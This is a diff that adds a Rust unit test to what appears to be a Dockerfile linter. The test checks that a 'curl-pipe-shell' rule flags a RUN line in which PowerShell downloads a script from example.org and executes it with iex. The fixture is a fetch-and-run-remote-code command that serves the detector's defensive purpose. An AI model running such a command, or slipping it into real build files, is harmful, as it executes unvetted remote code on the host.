@@ -168,4 +168,10 @@ mod tests {
             ]
         );
     }
+
+    #[test]
+    fn cmd_hands_a_script_to_powershell() {
+        let text = "FROM example.org/windows/servercore:1\nRUN powershell -Command \"iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/i.ps1'))\"\n";
+        assert_eq!(dockerfile("curl-pipe-shell", text).flagged().len(), 1);
+    }
 }
